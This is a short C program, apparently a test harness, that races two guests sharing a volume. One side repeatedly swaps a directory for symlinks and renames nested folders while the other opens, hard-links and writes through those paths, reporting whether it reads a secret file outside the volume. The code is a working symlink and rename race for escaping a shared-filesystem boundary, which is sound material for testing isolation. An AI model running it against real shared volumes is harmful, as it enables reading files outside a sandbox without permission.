/* race plays one half of a race between two guests that share a volume.
 *
 *   race swap VOLUME OUTSIDE SECONDS    makes "x" in turn a directory and a link to OUTSIDE, and moves "deep/er" up and down
 *   race use VOLUME SECRET SECONDS      uses names below both meanwhile
 *
 * Exit code 0, with a count; 9 when the user got hold of the secret. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec * 1e-9;
}

static void swap(int dir, const char *outside)
{
	/* The directory's own files stay in it, under another name. */
	renameat(dir, "x", dir, "x.dir");
	symlinkat(outside, dir, "x");
	unlinkat(dir, "x", 0);
	symlinkat("../outside", dir, "x.link");
	renameat(dir, "x.link", dir, "x");
	unlinkat(dir, "x", 0);
	renameat(dir, "x.dir", dir, "x");
	renameat(dir, "deep/er/est", dir, "up");
	renameat(dir, "up", dir, "deep/er/est");
}

static int opened;

static int secret_in(int dir, const char *path, const char *secret)
{
	char text[256];
	int fd = openat(dir, path, O_RDONLY);
	if (fd < 0)
		return 0;
	opened++;
	ssize_t n = read(fd, text, sizeof text - 1);
	close(fd);
	if (n <= 0)
		return 0;
	text[n] = 0;
	if (!strstr(text, secret))
		return 0;
	printf("escaped: %s\n", path);
	return 1;
}

static int use(int dir, const char *secret)
{
	int out = secret_in(dir, "x/secret", secret);
	out |= secret_in(dir, "deep/er/est/../../../../outside/secret", secret);
	out |= secret_in(dir, "deep/er/est/../../../secret", secret);
	int fd = openat(dir, "x/planted", O_WRONLY | O_CREAT | O_TRUNC, 0666);
	if (fd >= 0)
		close(fd);
	unlinkat(dir, "x/planted", 0);
	unlinkat(dir, "x/victim", 0);
	if (mkdirat(dir, "x/made", 0777) == 0)
		unlinkat(dir, "x/made", AT_REMOVEDIR);
	linkat(dir, "own", dir, "x/linked", 0);
	unlinkat(dir, "x/linked", 0);
	linkat(dir, "x/secret", dir, "taken", 0);
	out |= secret_in(dir, "taken", secret);
	unlinkat(dir, "taken", 0);
	symlinkat("nowhere", dir, "x/sym");
	unlinkat(dir, "x/sym", 0);
	return out;
}

int main(int argc, char **argv)
{
	int dir, rounds = 0, out = 0;
	if (argc != 5 || (dir = open(argv[2], O_RDONLY | O_DIRECTORY)) < 0) {
		fprintf(stderr, "usage: race swap|use VOLUME OUTSIDE|SECRET SECONDS\n");
		return 64;
	}
	for (double end = now() + atof(argv[4]); now() < end && !out; rounds++) {
		if (!strcmp(argv[1], "swap"))
			swap(dir, argv[3]);
		else
			out = use(dir, argv[3]);
	}
	printf("%d rounds, %d opened\n", rounds, opened);
	return out ? 9 : 0;
}
